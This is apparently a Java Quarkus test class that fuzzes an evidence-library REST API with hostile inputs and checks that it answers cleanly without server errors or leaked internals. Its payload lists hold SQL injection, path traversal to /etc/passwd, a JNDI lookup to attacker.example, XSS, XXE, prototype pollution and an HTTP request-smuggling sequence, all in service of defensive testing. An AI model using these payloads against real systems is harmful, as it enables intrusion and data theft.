package org.integrationevidence.security;

import static io.restassured.RestAssured.given;
import static org.integrationevidence.TestKeys.bearer;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.time.Duration;
import java.util.ArrayList;
import java.util.HashMap;
import java.util.Iterator;
import java.util.List;
import java.util.Locale;
import java.util.Map;

import com.fasterxml.jackson.databind.JsonNode;

import io.quarkus.test.junit.QuarkusTest;
import io.restassured.RestAssured;

import org.integrationevidence.TestData;
import org.integrationevidence.TestKeys;
import org.junit.jupiter.api.Test;

/**
 * No hostile input gets a 5xx, a stack trace or SQL: every operation of the OpenAPI document is sent hostile path
 * values, hostile values for each of its query parameters and headers, and hostile bodies, with a key that may call
 * it. Every answer must be below 500, and every error a problem document that names nothing internal.
 */
@QuarkusTest
class HostileInputTest {

    static final List<String> HOSTILE_VALUES = List.of("", " ", "'", "\"", "' OR '1'='1", "1; DROP TABLE case_study;--",
            "../../../../etc/passwd", "..%2f..%2fetc%2fpasswd", "%00", "%zz", "%", "\\", "<script>alert(1)</script>",
            "${jndi:ldap://attacker.example/a}", "{{7*7}}", "#{7*7}", "-1", "0", "99999999999999999999999", "1e309", "NaN",
            "-0", "true", "null", "[]", "{}", "*", "?", "&", "=", "+", "\uD83D\uDE00", "\u202Egnp.exe", "ä".repeat(300),
            "a".repeat(5000), "\t\r\n", "iek_" + "A".repeat(43), "slug with spaces", "/", "//", "..");

    /** Values for headers: those a header can carry at all. */
    static final List<String> HOSTILE_HEADER_VALUES = List.of("", "'", "\"", "' OR '1'='1", "-1", "*", "W/", "\"\\\"",
            "${jndi:ldap://attacker.example/a}", "a".repeat(5000), "iek_" + "A".repeat(43), "Basic Og==", ",,,,", "text/*;q=x");

    static final List<String> HOSTILE_BODIES = List.of("", "null", "[]", "{", "}", "\"text\"", "1", "true", "{}",
            "[".repeat(5000) + "]".repeat(5000), "{\"a\":".repeat(3000) + "1" + "}".repeat(3000),
            "{\"title\": {\"$gt\": \"\"}}", "{\"title\": 1e99999}", "{\"limit\": 99999999999999999999999999}",
            "{\"title\": \"" + "x".repeat(100_000) + "\"}", "{\"__proto__\": {\"admin\": true}}",
            "{\"constructor\": {\"prototype\": {\"admin\": true}}}", "{\"title\": \"\\ud800\"}", "{\"title\":\"a\",\"title\":\"b\"}",
            "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]><x>&e;</x>",
            "{\"role\": \"root\", \"name\": \"x\", \"owner\": \"y\"}", "\u0000\u0001\u0002");

    private static final HttpClient CLIENT = HttpClient.newBuilder().version(HttpClient.Version.HTTP_1_1)
            .followRedirects(HttpClient.Redirect.NEVER).build();

    private static final List<String> FORBIDDEN_IN_ERRORS = List.of("exception", "at org.", "at java.", "hibernate",
            "org.h2", "postgres", "sqlstate", "select ", "insert into", "stacktrace", "caused by");

    @Test
    void noOperationAnswersHostileInputWithA5xx() throws Exception {
        String key = TestKeys.admin();
        Map<String, String> fixtures = fixtures(key);
        JsonNode document = TestData.openApiDocument();
        List<String> failures = new ArrayList<>();
        int requests = 0;
        for (Iterator<Map.Entry<String, JsonNode>> paths = document.get("paths").fields(); paths.hasNext();) {
            Map.Entry<String, JsonNode> path = paths.next();
            for (Iterator<Map.Entry<String, JsonNode>> operations = path.getValue().fields(); operations.hasNext();) {
                Map.Entry<String, JsonNode> operation = operations.next();
                String method = operation.getKey().toUpperCase(Locale.ROOT);
                String template = path.getKey();
                String contentType = firstContentType(operation.getValue());
                String validBody = contentType == null ? null : "{}";
                List<String> names = parameterNames(operation.getValue());

                // Hostile values in each path parameter, the others naming fixtures.
                for (String parameter : names.stream().filter(n -> n.startsWith("path:")).toList()) {
                    for (String value : HOSTILE_VALUES) {
                        String url = expand(template, fixtures, parameter.substring(5), value);
                        requests++;
                        check(failures, method + " " + url, send(method, url, authorized(key, contentType), validBody));
                    }
                }
                String url = expand(template, fixtures, null, null);
                // Hostile values in each query parameter and header.
                for (String parameter : names.stream().filter(n -> !n.startsWith("path:")).toList()) {
                    for (String value : parameter.startsWith("query:") ? HOSTILE_VALUES : HOSTILE_HEADER_VALUES) {
                        Map<String, String> headers = authorized(key, contentType);
                        String target = url;
                        if (parameter.startsWith("query:")) {
                            target = url + "?" + encode(parameter.substring(6)) + "=" + encode(value);
                        } else {
                            headers.put(parameter.substring(7), value);
                        }
                        requests++;
                        check(failures, method + " " + url + " " + parameter + "=" + abbreviate(value),
                                send(method, target, headers, validBody));
                    }
                }
                // Hostile bodies, under the declared content type and under types nobody declared.
                if (contentType != null) {
                    for (String body : HOSTILE_BODIES) {
                        for (String type : body.length() < 100 ? List.of(contentType, "text/plain", "application/xml") : List.of(contentType)) {
                            requests++;
                            check(failures, method + " " + url + " body " + abbreviate(body) + " as " + type,
                                    send(method, url, authorized(key, type), body));
                        }
                    }
                }
                // Hostile credentials and content negotiation.
                for (String value : HOSTILE_HEADER_VALUES) {
                    requests += 2;
                    check(failures, method + " " + url + " Authorization: Bearer " + abbreviate(value),
                            send(method, url, new HashMap<>(Map.of("Authorization", "Bearer " + value)), null));
                    check(failures, method + " " + url + " Accept: " + abbreviate(value),
                            send(method, url, withAccept(authorized(key, null), value), null));
                }
            }
        }
        assertTrue(requests > 1000, "only " + requests + " hostile requests were sent");
        assertTrue(failures.isEmpty(), failures.size() + " of " + requests + " hostile requests were mishandled:\n"
                + String.join("\n", failures.subList(0, Math.min(30, failures.size()))));
    }

    @Test
    void malformedUrlsAreRefusedCleanly() throws Exception {
        List<String> failures = new ArrayList<>();
        for (String raw : List.of("/api/v1/case-studies/%zz", "/api/v1/case-studies/%00", "/api/v1/case-studies/..%2f..%2fetc",
                "/api/v1/case-studies/%c0%ae%c0%ae", "/api/v1/case-studies?q=%", "/api/v1/case-studies?limit=%zz",
                "/api/v1/%2e%2e/%2e%2e/q/openapi", "/api/v1/case-studies/a%2Fb", "/api/v1/case-studies;jsessionid=1",
                "/api/v1/case-studies//", "/api/v1/./case-studies", "/api/v1/case-studies/%ff%fe", "/api/v1/case-studies/\u00e4",
                "/api/v1/case-studies?q=TUR\u00cdN", "/api/v1/case-studies?q=a|b^", "/api/v1/case-studies?q=<x>",
                "*", "/../../etc/passwd", "/api/v1/case-studies?" + "a=1&".repeat(2000))) {
            RawHttp.Exchange answer = RawHttp.exchange("GET " + raw + " HTTP/1.1\r\nHost: localhost\r\nConnection: close\r\n\r\n");
            // Every refusal the API can answer itself is a problem document (RFC 9457), never an empty body.
            if (answer.status() < 200 || answer.status() >= 500) {
                failures.add(abbreviate(raw) + " answered " + answer.status());
            } else if (answer.status() >= 400 && !String.valueOf(answer.header("Content-Type")).startsWith("application/problem+json")) {
                failures.add(abbreviate(raw) + " answered " + answer.status() + " as " + answer.header("Content-Type"));
            }
        }
        assertTrue(failures.isEmpty(), String.join("\n", failures));
    }

    @Test
    void aUrlWithUnencodedTextOrABrokenEscapeIsToldWhatToSend() throws Exception {
        // curl sends ?q=TURÍN as the raw UTF-8 bytes; the answer says to percent-encode rather than guess.
        RawHttp.Exchange raw = RawHttp.exchange("GET /api/v1/case-studies?q=TUR\u00cdN HTTP/1.1\r\nHost: localhost\r\n"
                + "Connection: close\r\n\r\n");
        assertEquals(400, raw.status());
        assertEquals("application/problem+json", raw.header("Content-Type"));
        assertTrue(raw.text().contains("must be percent-encoded"), raw.text());
        RawHttp.Exchange escape = RawHttp.exchange("GET /api/v1/case-studies/%zz HTTP/1.1\r\nHost: localhost\r\n"
                + "Connection: close\r\n\r\n");
        assertEquals(400, escape.status());
        assertTrue(escape.text().contains("\"type\":\"/problems/bad-request\"") && escape.text().contains("%25"), escape.text());
    }

    /**
     * RFC 9112, section 6.1: a request framed both by Transfer-Encoding and Content-Length is refused, and nothing
     * pipelined behind it on the connection is served, since a proxy in front may have framed it the other way; the
     * connection of any request with Transfer-Encoding is closed once it is answered.
     */
    @Test
    void ambiguousFramingIsRefusedAndNothingSmuggledBehindItIsServed() throws Exception {
        String smuggled = "GET /api/v1/evidence-levels HTTP/1.1\r\nHost: localhost\r\n\r\n";
        RawHttp.Exchange both = RawHttp.exchange("POST /api/v1/case-studies HTTP/1.1\r\nHost: localhost\r\n"
                + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n" + smuggled);
        assertEquals(List.of(400), both.statuses(), both.text());
        assertEquals("application/problem+json", both.header("Content-Type"));
        assertTrue(both.text().contains("both Transfer-Encoding and Content-Length"), both.text());
        assertTrue(both.closed(), "the connection stays open after ambiguous framing");

        RawHttp.Exchange chunked = RawHttp.exchange("POST /api/v1/case-studies HTTP/1.1\r\nHost: localhost\r\n"
                + "Content-Type: application/json\r\nTransfer-Encoding: chunked\r\n\r\n2\r\n{}\r\n0\r\n\r\n" + smuggled);
        assertEquals(List.of(401), chunked.statuses(), "one answer, to the chunked request alone: " + chunked.text());
        assertTrue(chunked.closed(), "the connection of a chunked request stays open");

        // Plain keep-alive requests are pipelined as usual.
        RawHttp.Exchange plain = RawHttp.exchange(smuggled + smuggled, 2000);
        assertEquals(List.of(200, 200), plain.statuses());
    }

    /** Sets count the items sent, before repeated ones collapse: 80,000 of one theme are as many as 80,000 themes. */
    @Test
    void aSetOfRepeatedItemsCountsEveryItemSent() {
        Map<String, Object> body = TestData.caseStudy("sport");
        body.put("themes", java.util.Collections.nCopies(80_000, "education"));
        given().spec(bearer(TestKeys.editor())).contentType("application/json").body(body).when().post("/api/v1/case-studies")
                .then().statusCode(400)
                .body("errors[0].field", org.hamcrest.Matchers.equalTo("themes"))
                .body("errors[0].message", org.hamcrest.Matchers.equalTo("must have at most 1000 items"));
        body.put("themes", java.util.Collections.nCopies(12, "education"));
        given().spec(bearer(TestKeys.editor())).contentType("application/json").body(body).when().post("/api/v1/case-studies")
                .then().statusCode(201).body("themes", org.hamcrest.Matchers.equalTo(List.of("education")));
    }

    /** A lone surrogate is no character: refused with the field it is in, rather than written differently by each format. */
    @Test
    void aLoneSurrogateIsRefusedWithItsField() {
        String body = "{\"title\": \"Lone \\ud800 surrogate\"}";
        given().spec(bearer(TestKeys.editor())).contentType("application/json").body(body).when().post("/api/v1/case-studies")
                .then().statusCode(400)
                .body("errors[0].field", org.hamcrest.Matchers.equalTo("title"))
                .body("errors[0].message", org.hamcrest.Matchers.startsWith("must be Unicode text"));
        // A pair is a character like any other.
        Map<String, Object> paired = TestData.caseStudy("sport");
        paired.put("title", "Paired \ud83d\ude00 emoji");
        given().spec(bearer(TestKeys.editor())).contentType("application/json").body(paired).when().post("/api/v1/case-studies")
                .then().statusCode(201).body("title", org.hamcrest.Matchers.equalTo("Paired \ud83d\ude00 emoji"));
    }

    /** A source's URL is an http or https URL and nothing else: no script, no markup that leaves an attribute. */
    @Test
    void sourceUrlsCarryNoScriptOrMarkup() {
        for (String url : List.of("javascript:alert(1)", "JavaScript:alert(1)//https://x.example", "data:text/html,<script>",
                "https://x.example/\"><script>alert(1)</script>", "https://x.example/' onmouseover='alert(1)",
                "https://x.example/<img>", "https:///path", "http://", "https://x.example/a b", "https://x.example/\u00e4",
                "https://x.example/\nlocation", "vbscript:msgbox(1)", "//x.example/protocol-relative")) {
            Map<String, Object> body = TestData.caseStudy("sport");
            @SuppressWarnings("unchecked")
            Map<String, Object> source = (Map<String, Object>) ((List<?>) body.get("sources")).get(0);
            source.put("url", url);
            given().spec(bearer(TestKeys.editor())).contentType("application/json").body(body).when().post("/api/v1/case-studies")
                    .then().statusCode(400).body("errors[0].field", org.hamcrest.Matchers.equalTo("sources[0].url"));
        }
        Map<String, Object> body = TestData.caseStudy("sport");
        @SuppressWarnings("unchecked")
        Map<String, Object> source = (Map<String, Object>) ((List<?>) body.get("sources")).get(0);
        source.put("url", "HTTPS://Example.org:8443/reports/a%20b?x=1&y=(2)#part");
        given().spec(bearer(TestKeys.editor())).contentType("application/json").body(body).when().post("/api/v1/case-studies")
                .then().statusCode(201);
    }

    /**
     * A title or body inlined by a site in a script element (JSON-LD for structured data) cannot end the element or
     * open markup: every JSON answer escapes <, > and &.
     */
    @Test
    void noJsonAnswerCanCloseTheScriptElementItIsInlinedIn() {
        Map<String, Object> body = TestData.caseStudy("sport");
        body.put("title", "Bradford </script><script>alert(1)</script> & <!-- more");
        body.put("body", "Text </script><img src=x onerror=alert(1)> & more");
        String slug = given().spec(bearer(TestKeys.editor())).contentType("application/json").body(body)
                .when().post("/api/v1/case-studies").then().statusCode(201).extract().path("slug");
        for (String accept : List.of("application/ld+json", "application/json")) {
            String text = given().accept(accept).when().get("/api/v1/case-studies/" + slug).then().statusCode(200)
                    .extract().asString();
            assertTrue(!text.contains("<") && !text.contains(">") && !text.contains("&"), accept + " carries raw markup: " + text);
            assertTrue(text.toLowerCase(Locale.ROOT).contains("\\u003c/script\\u003e"), accept + " escapes it: " + text);
        }
        given().accept("application/ld+json").when().get("/api/v1/case-studies/" + slug).then()
                .body("headline", org.hamcrest.Matchers.equalTo("Bradford </script><script>alert(1)</script> & <!-- more"));
        String page = given().accept("application/ld+json").queryParam("q", "onerror").when().get("/api/v1/case-studies")
                .then().statusCode(200).extract().asString();
        assertTrue(!page.contains("</script"), page);
    }

    @Test
    void oddMethodsAndRawQueriesOnRedirectsAreRefusedCleanly() throws Exception {
        String key = TestKeys.editor();
        Map<String, Object> body = TestData.caseStudy("sport");
        String oldSlug = (String) body.get("slug");
        given().spec(bearer(key)).contentType("application/json").body(body).when().post("/api/v1/case-studies")
                .then().statusCode(201);
        body.put("slug", TestData.unique("renamed"));
        given().spec(bearer(key)).header("If-Match", "*").contentType("application/json").body(body)
                .when().put("/api/v1/case-studies/" + oldSlug).then().statusCode(200);
        // Characters that java.net.URI refuses in a query: the HTTP layer refuses them too (400), or the redirect works.
        int redirect = RawHttp.statusOf("GET /api/v1/case-studies/" + oldSlug + "?q=a|b^ HTTP/1.1\r\nHost: localhost\r\n"
                + "Connection: close\r\n\r\n");
        assertTrue(redirect == 308 || redirect == 400, "the redirect answered " + redirect);
        for (String method : List.of("XXXXXXXXXXXXXXXXXXXX", "PROPFIND", "BREW", "get")) {
            int status = RawHttp.statusOf(method + " /api/v1/case-studies HTTP/1.1\r\nHost: localhost\r\nAuthorization: Bearer "
                    + key + "\r\nContent-Length: 0\r\nConnection: close\r\n\r\n");
            assertTrue(status >= 400 && status < 500, method + " answered " + status);
        }
    }

    /** Real resources for the path parameters that are not under attack, made by this test so it may change them. */
    private static Map<String, String> fixtures(String key) {
        String approach = given().spec(bearer(key)).contentType("application/json")
                .body(Map.of("slug", TestData.unique("hostile"), "name", TestData.unique("Hostile input"),
                        "definition", "An approach made for the hostile input test."))
                .when().post("/api/v1/approaches").then().statusCode(201).extract().path("slug");
        Map<String, Object> body = TestData.caseStudy(approach);
        String slug = given().spec(bearer(key)).contentType("application/json").body(body)
                .when().post("/api/v1/case-studies").then().statusCode(201).extract().path("slug");
        return Map.of("caseStudy", slug, "approach", approach, "id", "999999999", "number", "1", "type", "validation",
                "version", "0", "scheme", "sdg", "code", "17.18", "mapping", "999999999", "delivery", "999999999");
    }

    private static String expand(String template, Map<String, String> fixtures, String hostileName, String hostileValue) {
        String url = template;
        for (String name : List.of("slug", "id", "number", "type", "version", "scheme", "code", "mapping", "delivery")) {
            String value = name.equals(hostileName) ? encode(hostileValue)
                    : name.equals("slug") ? (template.startsWith("/api/v1/approaches") ? fixtures.get("approach") : fixtures.get("caseStudy"))
                    : fixtures.get(name);
            url = url.replace("{" + name + "}", value);
        }
        return url;
    }

    private static String encode(String value) {
        return java.net.URLEncoder.encode(value, java.nio.charset.StandardCharsets.UTF_8).replace("+", "%20");
    }

    private static Map<String, String> authorized(String key, String contentType) {
        Map<String, String> headers = new HashMap<>();
        headers.put("Authorization", "Bearer " + key);
        headers.put("If-Match", "*");
        if (contentType != null) {
            headers.put("Content-Type", contentType);
        }
        return headers;
    }

    private static Map<String, String> withAccept(Map<String, String> headers, String accept) {
        headers.put("Accept", accept);
        return headers;
    }

    /**
     * Sends one request with the JDK's client: thousands are sent, and REST Assured's own overhead per request
     * would be most of the suite's time.
     */
    private static Answer send(String method, String pathAndQuery, Map<String, String> headers, String body) throws Exception {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create("http://localhost:" + RestAssured.port + pathAndQuery))
                .timeout(Duration.ofSeconds(30))
                .method(method, body == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(body));
        headers.forEach(request::header);
        HttpResponse<String> response = CLIENT.send(request.build(), HttpResponse.BodyHandlers.ofString());
        return new Answer(response.statusCode(), response.headers().firstValue("Content-Type").orElse(""), response.body());
    }

    private record Answer(int status, String contentType, String body) {
    }

    private static void check(List<String> failures, String what, Answer answer) {
        int status = answer.status();
        String body = answer.body();
        String lower = body.toLowerCase(Locale.ROOT);
        if (status >= 500) {
            failures.add(what + " -> " + status + " " + abbreviate(body));
        } else if (status >= 400 && !body.isEmpty() && !answer.contentType().startsWith("application/problem+json")) {
            failures.add(what + " -> " + status + " as " + answer.contentType() + ", not a problem document");
        } else if (status >= 400 && FORBIDDEN_IN_ERRORS.stream().anyMatch(lower::contains)) {
            failures.add(what + " -> " + status + " names internals: " + abbreviate(body));
        }
    }

    private static String firstContentType(JsonNode operation) {
        JsonNode content = operation.path("requestBody").path("content");
        return content.fieldNames().hasNext() ? content.fieldNames().next() : null;
    }

    private static List<String> parameterNames(JsonNode operation) {
        List<String> names = new ArrayList<>();
        operation.path("parameters").forEach(parameter -> names.add(parameter.path("in").asText() + ":" + parameter.path("name").asText()));
        return names;
    }

    private static String abbreviate(String value) {
        return value.length() <= 60 ? value : value.substring(0, 60) + "…(" + value.length() + ")";
    }
}
